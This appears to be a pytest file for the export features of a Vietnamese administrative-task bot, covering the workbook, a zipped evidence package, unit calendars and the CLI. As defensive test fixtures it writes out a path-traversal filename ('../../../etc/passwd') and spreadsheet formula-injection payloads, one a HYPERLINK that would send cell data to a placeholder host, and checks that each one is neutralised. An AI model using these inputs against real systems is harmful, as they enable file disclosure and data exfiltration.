"""Exports on SQLite and PostgreSQL: the workbook, the evidence package, unit calendars, the CLI."""

from __future__ import annotations

import hashlib
import io
import zipfile
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from icalendar import Calendar
from sqlalchemy import func, select, update
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session

from bot.cli import main
from bot.db.members import ensure_member
from bot.db.models import AuditRow, EvidenceRow, MemberRow, MetricRow, MetricValueRow, OccurrenceRow, ReviewRow
from bot.domain.workdays import WorkCalendar
from bot.engine.sync import sync_plan
from bot.exports.calendar import unit_calendar
from bot.exports.package import build_package, write_package
from bot.exports.records import load_snapshot
from bot.exports.workbook import MISSING_NOTE as MISSING_ID
from bot.exports.workbook import build_workbook, render_workbook
from bot.i18n import gettext_in
from bot.plans.loader import parse_plan
from bot.services import review, status, tasks
from bot.services.access import Refused, load_actor
from bot.services.tasks import Event
from tests.conftest import MINI_PLAN
from tests.fakes import confirm_all

UTC = timezone.utc
NOW = datetime(2019, 11, 25, 2, 0, tzinfo=UTC)  # 09:00 25/11/2019 in Hà Nội
TODAY = date(2019, 11, 25)
ADMIN, HEAD_VP, HEAD_TCCB, HEAD_KHTC = 1, 10, 20, 30
AREA1 = "1 - Công tác chỉ đạo điều hành/1.1 - Ban hành kế hoạch CCHC"
VP, TCCB, KHTC = "VP - Văn phòng Sở", "TCCB - Phòng Tổ chức cán bộ", "KHTC - Phòng Kế hoạch - Tài chính"  # M5
AREA2 = "2 - Cải cách thủ tục hành chính/2.1 - Rà soát_đơn giản hóa thủ tục hành chính_ báo cáo"
SHEETS = ["Lượt việc", "Tài liệu kiểm chứng", "Tổng hợp lĩnh vực", "Chỉ tiêu"]
MISSING_NOTE = gettext_in("vi", MISSING_ID)
EVIDENCE = "Tài liệu kiểm chứng"


def plan_with_metrics():  # type: ignore[no-untyped-def]
    """The mini plan plus an area whose task has metrics and a title with path characters."""
    data = yaml.safe_load(MINI_PLAN.read_text(encoding="utf-8"))
    data["areas"].append({"id": "2", "name": "Cải cách thủ tục hành chính",
                          "responsibility": {"lead": ["VP"], "others": ["PHONG"]}})
    data["tasks"].append({
        "id": "2.1", "area": "2", "title": "Rà soát/đơn giản hóa thủ tục hành chính: báo cáo <kết quả> định kỳ",
        "evidence_required": True, "common_deadlines": False,
        "deadlines": [{"id": "bc", "label": "Báo cáo rà soát", "date": "15/11/2019", "source": "seed"},
                      {"id": "bc2", "label": "Báo cáo rà soát năm 2020", "date": "16/11/2020", "source": "assumed"}],
        "metrics": [{"id": "ty-le", "name": "Tỷ lệ TTHC được rà soát", "kind": "percent", "target": 90,
                     "comparison": ">="},
                    {"id": "so-loi", "name": "Số hồ sơ trễ hạn", "kind": "count", "target": 3, "comparison": "<="}]})
    return parse_plan(yaml.safe_dump(data, allow_unicode=True), "mini-metrics.yaml")


@dataclass
class Seeded:
    engine: Engine
    evidence_dir: Path
    files: dict[str, bytes]  # name on disk → content


def _occ(session: Session, key: str) -> int:
    return session.scalar(select(OccurrenceRow.id).where(OccurrenceRow.key == key))  # type: ignore[return-value]


def _store(folder: Path, name: str, content: bytes) -> tuple[str, str, int]:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(content)
    return str(path), hashlib.sha256(content).hexdigest(), len(content)


def seed(engine: Engine, tmp: Path) -> Seeded:
    """Members, evidence files on disk, done / awaiting / returned occurrences, metric values."""
    sync_plan(engine, plan_with_metrics(), WorkCalendar(), NOW - timedelta(days=40))
    confirm_all(engine, NOW - timedelta(days=40))  # exports count confirmed deadlines only
    ensure_member(engine, NOW, chat_id=ADMIN, role="admin", unit="VP", name="Chánh Văn phòng")
    for chat, unit in ((HEAD_VP, "VP"), (HEAD_TCCB, "TCCB"), (HEAD_KHTC, "KHTC")):
        ensure_member(engine, NOW, chat_id=chat, role="head", unit=unit, name=f"Trưởng {unit}")
    store = tmp / "evidence"
    files = {"pdf": b"%PDF-1.4 " + bytes(range(256)) * 20, "jpg": b"\xff\xd8\xff" + b"anh" * 500,
             "passwd": b"khong phai passwd", "docx1": b"PK docx mot", "docx2": b"PK docx hai", "gone": b"x" * 10}
    ev = Event(NOW - timedelta(days=10))
    with Session(engine, expire_on_commit=False) as s, s.begin():
        actor = {chat: load_actor(s, chat, chat) for chat in (ADMIN, HEAD_VP, HEAD_TCCB, HEAD_KHTC)}
        tccb, khtc = _occ(s, "1.1/ket-qua/TCCB/2019"), _occ(s, "1.1/ket-qua/KHTC/2019")
        vp = _occ(s, "2.1/bc/VP/once")

        def add(chat: int, occ: int, key: str, name: str | None, kind: str = "document") -> None:
            path, digest, size = _store(store / str(occ), f"{key}.bin", files[key])
            tasks.add_evidence(s, actor[chat], occ, ev, kind=kind, file_name=name, size=size, sha256=digest,
                               stored_path=path, file_id=f"F-{key}", file_unique_id=f"U-{key}")

        add(HEAD_TCCB, tccb, "pdf", "Báo cáo kết quả CCHC.pdf")
        add(HEAD_TCCB, tccb, "jpg", None, kind="photo")
        tasks.add_evidence(s, actor[HEAD_TCCB], tccb, ev, kind="link", text="Tờ trình: https://drive.example/vb1")
        add(HEAD_KHTC, khtc, "passwd", "../../../etc/passwd")
        add(HEAD_KHTC, khtc, "docx1", "bao-cao.docx")
        add(HEAD_KHTC, khtc, "docx2", "BAO-CAO.docx")
        tasks.add_evidence(s, actor[HEAD_KHTC], khtc, ev, kind="text", text="Đã niêm yết công khai tại trụ sở.")
        add(HEAD_VP, vp, "gone", "bien-ban.pdf")
        for occ, chat in ((tccb, HEAD_TCCB), (khtc, HEAD_KHTC), (vp, HEAD_VP),
                          (_occ(s, "1.1/quy/KHTC/2019-09-20"), HEAD_KHTC)):
            tasks.confirm_done(s, actor[chat], occ, ev)
        reviews = {r.occurrence_id: r.id for r in s.scalars(select(ReviewRow))}
        review.accept(s, actor[ADMIN], reviews[tccb], Event(NOW - timedelta(days=9)))
        review.accept(s, actor[ADMIN], reviews[_occ(s, "1.1/quy/KHTC/2019-09-20")], Event(NOW - timedelta(days=9)))
        review.start_return(s, actor[ADMIN], reviews[vp], ev)
        review.return_with_reason(s, actor[ADMIN], reviews[vp], "Thiếu biên bản", ev)
        metrics = {m.metric_id: m.id for m in s.scalars(select(MetricRow))}
        member = actor[HEAD_TCCB].member_id
        for metric, unit, value, days in (("ty-le", "TCCB", 85, 5), ("ty-le", "TCCB", 95, 2), ("ty-le", "KHTC", 80, 3),
                                          ("so-loi", "TCCB", 5, 1)):
            s.add(MetricValueRow(metric_id=metrics[metric], unit=unit, value=value, reported_by=member,
                                 reported_at=NOW - timedelta(days=days)))
    Path(str(store / str(vp) / "gone.bin")).unlink()  # the archived file was lost from disk
    return Seeded(engine, store, files)


@pytest.fixture
def seeded(db: Engine, tmp_path: Path) -> Seeded:
    return seed(db, tmp_path)


def _rows(ws) -> list[list[Any]]:  # type: ignore[no-untyped-def]
    return [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]


def _workbook(engine: Engine):  # type: ignore[no-untyped-def]
    with Session(engine) as s:
        return openpyxl.load_workbook(io.BytesIO(build_workbook(s, TODAY)))


def test_workbook_has_the_four_sheets_with_headers_filters_and_frozen_header(seeded: Seeded) -> None:
    wb = _workbook(seeded.engine)
    assert wb.sheetnames == SHEETS
    assert [c.value for c in wb["Lượt việc"][1]] == [
        "Lĩnh vực", "Tên lĩnh vực", "Mã nhiệm vụ", "Nhiệm vụ", "Nội dung hạn", "Đơn vị", "Tên đơn vị", "Hạn",
        "Nguồn hạn", "Trạng thái", "Hoàn thành lúc", "Người xác nhận", "Người tiếp nhận", "Số tài liệu kiểm chứng",
        "Kế hoạch"]
    assert [c.value for c in wb[EVIDENCE][1]] == [
        "Mã nhiệm vụ", "Đơn vị", "Tên đơn vị", "Hạn", "Loại", "Tên tệp", "Số/ký hiệu", "Ngày ban hành", "Trích yếu",
        "Cơ quan ban hành", "Kích thước (byte)", "SHA-256", "Nội dung/đường link", "Người gửi", "Thời điểm",
        "Đường dẫn trong gói"]
    assert [c.value for c in wb["Tổng hợp lĩnh vực"][1]] == [
        "Lĩnh vực", "Tên", "Tổng", "Đã xong", "Chờ xác nhận", "Quá hạn", "Đang mở", "Tỷ lệ hoàn thành (%)", "Đóng"]
    assert [c.value for c in wb["Chỉ tiêu"][1]][:5] == ["Mã nhiệm vụ", "Chỉ tiêu", "Mục tiêu", "Đơn vị", "Tên đơn vị"]
    for ws in wb:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
        assert all(ws.column_dimensions[c].width >= 8 for c in "ABC")


def test_workbook_rows_statuses_and_local_times(seeded: Seeded) -> None:
    wb = _workbook(seeded.engine)
    with Session(seeded.engine) as s:
        live = s.scalar(select(func.count()).select_from(OccurrenceRow).where(OccurrenceRow.retired_at.is_(None)))
        evidence = s.scalar(select(func.count()).select_from(EvidenceRow))
    rows = _rows(wb["Lượt việc"])
    assert len(rows) == live and len(_rows(wb[EVIDENCE])) == evidence == 8
    def by_key(task: str, unit: str, year: int, label: str) -> list[Any]:
        (row,) = [r for r in rows if r[2:7:3] == [task, unit] and r[7].year == year and r[4].startswith(label)]
        return row

    done = by_key("1.1", "TCCB", 2019, "Gửi kết quả")
    assert done[:10] == ["1", "Công tác chỉ đạo điều hành", "1.1", "Ban hành kế hoạch CCHC",
                         "Gửi kết quả về Văn phòng Sở (trước ngày 20/11)", "TCCB", "Phòng Tổ chức cán bộ",
                         datetime(2019, 11, 19), "Văn bản gốc", "Đã xong"]
    assert done[10] == datetime(2019, 11, 15, 9, 0)  # submitted 02:00 UTC → 09:00 in Hà Nội, naive
    assert done[11:] == ["Trưởng TCCB", "Chánh Văn phòng", 3, "Kế hoạch thử"]
    assert by_key("1.1", "KHTC", 2019, "Gửi kết quả")[9:14] == ["Chờ xác nhận", None, "Trưởng KHTC", None, 4]
    assert by_key("1.1", "KHTC", 2020, "Gửi kết quả")[9:14] == ["Đang mở", None, None, None, 0]
    quarterly = [r[9] for r in rows if r[2:7:3] == ["1.1", "TCCB"] and r[4] == "Báo cáo quý" and r[7].year == 2019]
    assert quarterly == ["Quá hạn", "Quá hạn"]
    assert by_key("2.1", "VP", 2019, "Báo cáo rà s")[9] == "Quá hạn"  # returned and past its due date
    assert by_key("2.1", "VP", 2020, "Báo cáo rà s")[8:10] == ["Giả định", "Đang mở"]
    assert {r[5]: r[6] for r in rows} == {"VP": "Văn phòng Sở", "TCCB": "Phòng Tổ chức cán bộ",
                                          "KHTC": "Phòng Kế hoạch - Tài chính"}  # the name beside the code (M5)
    ws = wb["Lượt việc"]
    assert ws["H2"].is_date and ws["H2"].number_format == "dd/mm/yyyy"
    stamped = [c for (c,) in ws.iter_rows(min_row=2, min_col=11, max_col=11) if c.value is not None]
    assert stamped and all(c.is_date and c.number_format == "dd/mm/yyyy hh:mm" for c in stamped)
    ev = wb[EVIDENCE]
    assert ev["D2"].is_date and ev["O2"].number_format == "dd/mm/yyyy hh:mm"
    assert {r[1]: r[2] for r in _rows(ev)} == {"TCCB": "Phòng Tổ chức cán bộ", "KHTC": "Phòng Kế hoạch - Tài chính",
                                               "VP": "Văn phòng Sở"}


def test_summary_totals_equal_the_status_counts_of_tiendo(seeded: Seeded) -> None:
    rows = _rows(_workbook(seeded.engine)["Tổng hợp lĩnh vực"])
    with Session(seeded.engine) as s:
        admin = load_actor(s, ADMIN, ADMIN)
        reports = [status.progress(s, admin, TODAY, year=y) for y in (2019, 2020)]  # the whole plan, year by year
    total = rows[-1]
    assert total[0] == "Tổng cộng"
    for i, name in enumerate(("total", "done", "awaiting_review", "overdue", "open"), start=2):
        assert total[i] == sum(getattr(r.total, name) for r in reports), name
        for row in rows[:-1]:
            assert row[i] == sum(getattr(r.areas[row[0]], name) for r in reports if row[0] in r.areas)
    assert [r[0] for r in rows[:-1]] == ["1", "2"]
    assert total[7] == round(100 * total[3] / total[2], 1)


def test_metric_sheet_judges_the_latest_value_and_lists_units_that_did_not_report(seeded: Seeded) -> None:
    rows = _rows(_workbook(seeded.engine)["Chỉ tiêu"])
    found = {(r[1], r[3]): (r[2], r[5], r[8], r[9]) for r in rows}
    assert {r[3]: r[4] for r in rows}["KHTC"] == "Phòng Kế hoạch - Tài chính"  # the name beside the code (M5)
    assert found[("Tỷ lệ TTHC được rà soát", "TCCB")] == ("≥ 90%", 95, "Đạt", "Trưởng TCCB")
    assert found[("Tỷ lệ TTHC được rà soát", "KHTC")][1:3] == (80, "Chưa đạt")
    assert found[("Tỷ lệ TTHC được rà soát", "VP")][1:3] == (None, "Chưa báo cáo")
    assert found[("Số hồ sơ trễ hạn", "TCCB")][:3] == ("≤ 3", 5, "Chưa đạt")
    assert len(rows) == 6  # 2 metrics × the 3 units due for task 2.1


def _entries(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        assert all(info.flag_bits & 0x800 for info in zf.infolist() if not info.filename.isascii())
        return {info.filename: zf.read(info) for info in zf.infolist()}


def test_package_lays_out_files_by_area_task_unit_with_matching_hashes(seeded: Seeded, tmp_path: Path) -> None:
    with Session(seeded.engine) as s:
        result = build_package(s, TODAY, tmp_path / "out")
        rows = s.scalars(select(EvidenceRow)).all()
    assert [p.name for p in result.paths] == ["goi-minh-chung.zip"] and result.file_count == 5
    assert result.sizes == [result.paths[0].stat().st_size] and result.oversized == [] and result.mismatched == []
    entries = _entries(result.paths[0])
    assert {"chi-muc.xlsx", "thieu-tep.txt",
            f"{AREA1}/{TCCB}/Báo cáo kết quả CCHC.pdf", f"{AREA1}/{TCCB}/minh-chung.txt",
            f"{AREA1}/{KHTC}/passwd", f"{AREA1}/{KHTC}/bao-cao.docx", f"{AREA1}/{KHTC}/BAO-CAO (2).docx",
            f"{AREA1}/{KHTC}/minh-chung.txt"} <= set(entries)
    photo = [n for n in entries if n.startswith(f"{AREA1}/{TCCB}/anh-")]
    assert len(photo) == 1 and photo[0].endswith(".bin")
    by_name = {n.rsplit("/", 1)[-1]: data for n, data in entries.items()}
    for row in rows:
        if row.kind in ("document", "photo") and Path(row.stored_path or "").exists():
            data = Path(row.stored_path).read_bytes()  # type: ignore[arg-type]
            inside = [d for d in by_name.values() if d == data]
            assert inside and hashlib.sha256(inside[0]).hexdigest() == row.sha256
    assert "https://drive.example/vb1" in entries[f"{AREA1}/{TCCB}/minh-chung.txt"].decode("utf-8-sig")
    assert "niêm yết" in entries[f"{AREA1}/{KHTC}/minh-chung.txt"].decode("utf-8-sig")
    index = openpyxl.load_workbook(io.BytesIO(entries["chi-muc.xlsx"]))
    assert index.sheetnames == SHEETS


def test_names_from_users_cannot_leave_their_folder(seeded: Seeded, tmp_path: Path) -> None:
    with Session(seeded.engine) as s:
        result = build_package(s, TODAY, tmp_path / "out")
    for name in _entries(result.paths[0]):
        parts = name.split("/")
        assert not name.startswith("/") and ":" not in name and "\\" not in name
        assert all(p and p not in (".", "..") for p in parts)
        assert len(parts) in (1, 4)
    target = tmp_path / "unzipped"
    with zipfile.ZipFile(result.paths[0]) as zf:
        zf.extractall(target)
    assert all(target in p.resolve().parents for p in target.rglob("*"))
    assert (target / AREA2 / VP).parent.name.startswith("2.1 - ")


def test_missing_files_are_reported_and_listed_not_fatal(seeded: Seeded, tmp_path: Path) -> None:
    with Session(seeded.engine) as s:
        result = build_package(s, TODAY, tmp_path / "out")
        wb = openpyxl.load_workbook(io.BytesIO(build_workbook(s, TODAY)))
    assert len(result.missing) == 1 and f"{AREA2}/{VP}/bien-ban.pdf" in result.missing[0]
    listing = _entries(result.paths[0])["thieu-tep.txt"].decode("utf-8-sig")
    assert f"{AREA2}/{VP}/bien-ban.pdf" in listing and "Trưởng VP" in listing
    assert "đơn vị VP (Văn phòng Sở)" in listing  # the name beside the code (M5)
    paths = [r[15] for r in _rows(wb[EVIDENCE])]
    assert MISSING_NOTE in paths
    in_zip = set(_entries(result.paths[0]))
    assert all(p in in_zip for p in paths if p != MISSING_NOTE)  # the index points at real entries


def test_package_splits_into_parts_under_the_limit_and_big_files_go_alone(seeded: Seeded, tmp_path: Path) -> None:
    big = seeded.evidence_dir / "big.bin"
    big.write_bytes(bytes(range(256)) * 200)  # 51,200 bytes
    with Session(seeded.engine) as s, s.begin():
        occ = _occ(s, "1.1/ket-qua/VP/2019")
        s.add(EvidenceRow(occurrence_id=occ, member_id=1, kind="document", file_name="lon.pdf", size=51_200,
                          sha256=hashlib.sha256(big.read_bytes()).hexdigest(), stored_path=str(big), created_at=NOW))
    with Session(seeded.engine) as s:
        snap = load_snapshot(s, TODAY)
    index = render_workbook(snap)
    whole = _entries(write_package(snap, index, tmp_path / "one").paths[0])
    limit = len(index) + 9_000
    result = write_package(snap, index, tmp_path / "parts", max_part_bytes=limit)
    assert len(result.paths) >= 3
    assert [p.name for p in result.paths] == [f"goi-minh-chung-phan-{i}.zip" for i in range(1, len(result.paths) + 1)]
    assert result.oversized == [result.paths[-1]] and result.sizes[-1] > limit
    assert all(size <= limit for size in result.sizes[:-1])
    merged: dict[str, bytes] = {}
    for path in result.paths:
        entries = _entries(path)
        assert ("chi-muc.xlsx" in entries) is (path not in result.oversized)
        merged.update(entries)
    assert merged == whole  # unzipping every part into one folder gives the whole package
    assert list(_entries(result.paths[-1])) == [f"{AREA1}/{VP}/lon.pdf"]
    assert result.file_count == 6
    again = write_package(snap, index, tmp_path / "parts")  # a second export replaces the old parts
    assert [p.name for p in (tmp_path / "parts").glob("*.zip")] == ["goi-minh-chung.zip"] == [again.paths[0].name]


def test_a_file_changed_on_disk_is_reported_as_mismatched(seeded: Seeded, tmp_path: Path) -> None:
    with Session(seeded.engine) as s:
        pdf = s.scalar(select(EvidenceRow).where(EvidenceRow.file_name == "Báo cáo kết quả CCHC.pdf"))
        Path(pdf.stored_path).write_bytes(b"%PDF-1.4 sua doi" + b"." * 5000)  # type: ignore[union-attr, arg-type]
        result = build_package(s, TODAY, tmp_path / "out")
    assert len(result.mismatched) == 1 and "Báo cáo kết quả CCHC.pdf" in result.mismatched[0]


def test_unit_calendar_has_one_all_day_event_per_occurrence(seeded: Seeded) -> None:
    with Session(seeded.engine) as s:
        data = unit_calendar(s, "tccb", NOW)
        keys = {o.key: o.due for o in s.scalars(select(OccurrenceRow).where(OccurrenceRow.unit == "TCCB"))}
    cal = Calendar.from_ical(data)
    assert str(cal["X-WR-CALNAME"]) == "Hạn nhiệm vụ CCHC — Phòng Tổ chức cán bộ"
    assert str(cal["X-WR-TIMEZONE"]) == "Asia/Ho_Chi_Minh" and "nhacviec" in str(cal["PRODID"])
    events = list(cal.walk("VEVENT"))
    assert {str(e["UID"]) for e in events} == {f"{k}@nhacviec" for k in keys}
    for event in events:
        due = keys[str(event["UID"]).removesuffix("@nhacviec")]
        assert event.decoded("DTSTART") == due and not isinstance(event.decoded("DTSTART"), datetime)
        assert str(event["SUMMARY"]).startswith("[")
    result = next(e for e in events if str(e["UID"]) == "2.1/bc/TCCB/once@nhacviec")
    assert str(result["SUMMARY"]) == ("[2.1] Rà soát/đơn giản hóa thủ tục hành chính: báo cáo <kết quả> định kỳ "
                                      "— Báo cáo rà soát")
    assert "Cải cách thủ tục hành chính" in str(result["DESCRIPTION"])
    assert "văn bản gốc" in str(result["DESCRIPTION"])
    (alarm,) = result.walk("VALARM")
    assert alarm.decoded("TRIGGER") == -timedelta(hours=16)  # 08:00 the day before
    done = next(e for e in events if str(e["UID"]) == "1.1/ket-qua/TCCB/2019@nhacviec")
    assert list(done.walk("VALARM")) == []  # accepted by the office: nothing to remind of


def test_unknown_unit_calendar_is_refused_with_the_valid_ids(seeded: Seeded) -> None:
    with Session(seeded.engine) as s, pytest.raises(Refused) as caught:
        unit_calendar(s, "SOGD", NOW)
    assert caught.value.key == "unknown_unit" and caught.value.params["known"] == "KHTC, TCCB, VP"


def _config(tmp_path: Path, url: str) -> Path:
    cfg = tmp_path / "config.yaml"
    cfg.write_text(yaml.safe_dump({"plan": str(MINI_PLAN), "database": {"url": url},
                                   "clock": {"start": "2019-11-25T09:00:00+07:00"},
                                   "storage": {"evidence_dir": str(tmp_path / "evidence")}}), encoding="utf-8")
    return cfg


def test_cli_export_writes_workbook_and_package(seeded: Seeded, db_url: str, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "xuat"
    assert main(["export", "--out", str(out), "--config", str(_config(tmp_path, db_url))]) == 0
    printed = capsys.readouterr()
    assert (out / "tong-hop-cchc.xlsx").exists() and (out / "goi-minh-chung.zip").exists()
    assert "tong-hop-cchc.xlsx" in printed.out and "goi-minh-chung.zip" in printed.out and "5 tệp" in printed.out
    assert "Thiếu tệp" in printed.err
    assert openpyxl.load_workbook(out / "tong-hop-cchc.xlsx").sheetnames == SHEETS
    with Session(seeded.engine) as s:
        assert s.scalar(select(AuditRow).where(AuditRow.action == "export_created")) is not None


def test_cli_ics_writes_the_unit_calendar_and_refuses_an_unknown_unit(
        seeded: Seeded, db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    cfg = str(_config(tmp_path, db_url))
    monkeypatch.chdir(tmp_path)
    assert main(["ics", "--unit", "TCCB", "--config", cfg]) == 0
    assert Calendar.from_ical((tmp_path / "TCCB.ics").read_bytes()).walk("VEVENT")
    capsys.readouterr()
    assert main(["ics", "--unit", "KHTC", "--out", str(tmp_path / "lich" / "k.ics"), "--config", cfg]) == 0
    assert "KHTC" in capsys.readouterr().out
    assert main(["ics", "--unit", "SOGD", "--config", cfg]) == 2
    err = capsys.readouterr().err
    assert "Lỗi câu lệnh" in err and "Không có đơn vị \"SOGD\"" in err and "TCCB" in err
    assert main(["ics", "--config", cfg]) == 2
    assert "thiếu tham số bắt buộc" in capsys.readouterr().err


def test_user_text_is_written_as_text_never_as_a_formula(seeded: Seeded) -> None:
    """Formula injection: evidence text and a display name starting with =, +, -, @ stay plain strings."""
    evil = '=HYPERLINK("http://x/?d="&A1,"Bấm")'
    with Session(seeded.engine, expire_on_commit=False) as s, s.begin():
        head = load_actor(s, HEAD_TCCB, HEAD_TCCB)
        s.execute(update(MemberRow).where(MemberRow.chat_id == HEAD_TCCB).values(name="=1+1 Trưởng"))
        occ = s.scalar(select(OccurrenceRow.id).where(OccurrenceRow.unit == "TCCB", OccurrenceRow.status == "open")
                       .order_by(OccurrenceRow.id).limit(1))
        for text in (evil, "+SUM(1,2)", "-2+3", "@cmd"):
            tasks.add_evidence(s, head, occ, Event(NOW), kind="text", text=text)
    with Session(seeded.engine) as s:
        raw = build_workbook(s, TODAY)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    assert any(evil in v for v in values) and any(v.startswith("=1+1 Trưởng") for v in values)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:  # nothing Excel would evaluate
        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
